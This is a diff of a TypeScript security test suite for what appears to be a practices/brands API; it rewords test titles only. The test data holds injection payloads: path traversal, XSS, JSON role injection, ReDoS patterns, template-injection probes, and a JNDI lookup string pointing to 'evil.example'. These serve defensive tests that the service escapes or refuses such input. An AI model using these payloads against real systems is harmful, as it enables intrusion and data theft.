@@ -10,7 +10,7 @@ const nameOf = async (externalId: string): Promise<string> =>
   String((await ask('GET', `/v1/practices/${externalId}`, { key: admin })).body.name);
 
 describe('what somebody sends', () => {
-  it('a name that is encoded twice is decoded once', async () => {
+  it('a name encoded twice is decoded once', async () => {
     for (const twice of ['%2541', '%252e%252e%252fetc', '%25252541'])
       await ask('PUT', `/v1/brands/${twice}`, { key: admin, body: { name: 'Deux fois' } });
     const { items } = (await ask('GET', '/v1/brands', { key: admin })).body;
@@ -21,7 +21,7 @@ describe('what somebody sends', () => {
     expect(after.map(({ externalId }) => externalId)).toContain('A');
   });
 
-  it('markup is kept as written, and escaped where a page shows it', async () => {
+  it('markup is kept and escaped on pages', async () => {
     expect((await named('balises', MARKUP)).status).toBeLessThan(300);
     expect(await nameOf('balises')).toBe(MARKUP);
     const page = await (await get('/console/practices', { cookie })).text();
@@ -29,7 +29,7 @@ describe('what somebody sends', () => {
     expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
   });
 
-  it('an address that would run or read something is refused', async () => {
+  it('an address that would run code is refused', async () => {
     for (const url of [
       'javascript:alert(1)',
       'data:text/html,<script>alert(1)</script>',
@@ -47,7 +47,7 @@ describe('what somebody sends', () => {
     }
   });
 
-  it('what would end a script or a line of JSON stays data', async () => {
+  it('text that ends a script stays data', async () => {
     for (const text of [
       '</script><script>1</script>',
       '","role":"admin',
@@ -61,7 +61,7 @@ describe('what somebody sends', () => {
     }
   });
 
-  it('signs of a pattern in a name are read as letters', async () => {
+  it('pattern characters in a name are literal', async () => {
     for (const brand of ['.*', '(a+)+$', '[', '\\', 'a|J', '^']) {
       const changed = await ask('PATCH', '/v1/tenant', { key: admin, body: { brand } });
       expect([brand, changed.status < 500]).toEqual([brand, true]);
@@ -76,7 +76,7 @@ describe('what somebody sends', () => {
     }
   });
 
-  it('a field of a template that nobody knows is refused, not computed', async () => {
+  it('an unknown template field is refused, never computed', async () => {
     for (const field of [
       '{7*7}',
       '{{7*7}}',
@@ -101,7 +101,7 @@ describe('what somebody sends', () => {
     }
   });
 
-  it('signs of a format in a name stay letters', async () => {
+  it('format characters in a name are literal', async () => {
     const signs = '%s %n %x %d {0} ${jndi:ldap://evil.example/a} %00';
     expect((await named('formats', signs)).status).toBeLessThan(300);
     expect(await nameOf('formats')).toBe(signs);
